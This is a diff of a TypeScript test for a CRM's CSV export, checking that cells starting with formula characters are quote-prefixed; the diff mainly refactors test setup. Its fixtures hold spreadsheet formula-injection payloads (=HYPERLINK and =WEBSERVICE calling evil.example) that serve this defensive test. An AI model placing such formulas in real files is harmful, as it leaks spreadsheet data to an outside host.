@@ -1,7 +1,7 @@
 import 'reflect-metadata';
 import { gatewaySignatureHeaders, signGatewayRequest, UserRole } from '@crm/kernel';
 import { type ServiceHandle } from '@crm/kernel/subgraph';
-import { createTestDatabase, signedGraphqlRequest, TEST_GATEWAY_SIGNING_SECRET, testLogger, testToken, type TestDatabase } from '@crm/testing';
+import { startServiceUnderTest, TEST_GATEWAY_SIGNING_SECRET, testToken, type ServiceUnderTest } from '@crm/testing';
 import { parse } from 'csv-parse/sync';
 import { loadConfig } from '../config';
 import { start } from '../server';
@@ -10,11 +10,11 @@ const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
 
 /** `GET /exports/segments/:id.csv` and text that spreadsheet programs would run as a formula. */
 describe('segment CSV export: cells a spreadsheet would run as formulas', () => {
-  let database: TestDatabase;
-  let service: ServiceHandle;
+  let service: ServiceUnderTest;
+  let handle: ServiceHandle;
   let admin: string;
   let ownerId: string;
-  const call = (query: string, variables?: Record<string, unknown>) => signedGraphqlRequest(service.url, query, variables, admin);
+  const call = (query: string, variables?: Record<string, unknown>) => service.as(admin).call(query, variables);
   const signedGet = (path: string) =>
     fetch(new URL(path, service.url), {
       headers: { authorization: `Bearer ${admin}`, ...gatewaySignatureHeaders(signGatewayRequest(TEST_GATEWAY_SIGNING_SECRET, { method: 'GET', path, body: '' })) },
@@ -32,20 +32,13 @@ describe('segment CSV export: cells a spreadsheet would run as formulas', () => 
   };
 
   beforeAll(async () => {
-    database = await createTestDatabase();
-    service = await start(
-      loadConfig({
-        DATABASE_URL: database.url,
-        PORT: '0',
-        NODE_ENV: 'test',
-        GATEWAY_SIGNING_SECRET: TEST_GATEWAY_SIGNING_SECRET,
-        OPPORTUNITIES_URL: 'http://127.0.0.1:9/graphql',
-        ACTIVITIES_URL: 'http://127.0.0.1:9/graphql',
-      }),
-      testLogger,
-    );
+    service = await startServiceUnderTest({
+      loadConfig,
+      start: async (config, logger) => (handle = await start(config, logger)),
+      env: { OPPORTUNITIES_URL: 'http://127.0.0.1:9/graphql', ACTIVITIES_URL: 'http://127.0.0.1:9/graphql' },
+    });
     // An owner whose e-mail address starts with a formula character: user data like any other.
-    [{ id: ownerId }] = await service.db.query(
+    [{ id: ownerId }] = await handle.db.query(
       `INSERT INTO accounts.users (email, first_name, last_name, role) VALUES ('+sales@crm.example', 'Sal', 'Es', 'ADMIN') RETURNING id`,
     );
     admin = await testToken({ userId: ownerId, role: UserRole.ADMIN });
@@ -53,7 +46,6 @@ describe('segment CSV export: cells a spreadsheet would run as formulas', () => 
 
   afterAll(async () => {
     await service?.stop();
-    await database?.drop();
   });
 
   it('prefixes every text cell starting with = + - @ tab or carriage return with a quote, and leaves ordinary names, phone numbers and negative amounts as they are', async () => {
@@ -66,8 +58,8 @@ describe('segment CSV export: cells a spreadsheet would run as formulas', () => 
     const ordinary = await createAccount({ name: 'Ordinary Household', industry: 'Fishing' });
     await createContact({ accountId: ordinary, firstName: 'Olaf', lastName: 'Ordinary', email: 'olaf@example.com', phone: '+354 555 9876' });
     // What the API refuses but the columns can hold: a negative revenue (an amount the export formats) and a formula stored as a phone number.
-    await service.db.query(`UPDATE accounts.accounts SET annual_revenue_amount = -1500.50, annual_revenue_currency = 'ISK' WHERE id IN ($1, $2)`, [ordinary, minus]);
-    await service.db.query(`INSERT INTO accounts.contacts (account_id, first_name, last_name, phone) VALUES ($1, 'Phil', 'Phone', '=WEBSERVICE("http://evil.example")')`, [minus]);
+    await handle.db.query(`UPDATE accounts.accounts SET annual_revenue_amount = -1500.50, annual_revenue_currency = 'ISK' WHERE id IN ($1, $2)`, [ordinary, minus]);
+    await handle.db.query(`INSERT INTO accounts.contacts (account_id, first_name, last_name, phone) VALUES ($1, 'Phil', 'Phone', '=WEBSERVICE("http://evil.example")')`, [minus]);
 
     const created = await call(`mutation($input: CreateSegmentInput!) { createSegment(input: $input) { id memberCount } }`, {
       input: { name: 'Icelandic households', rules: { all: [{ field: 'COUNTRY', operator: 'EQ', values: ['IS'] }] } },
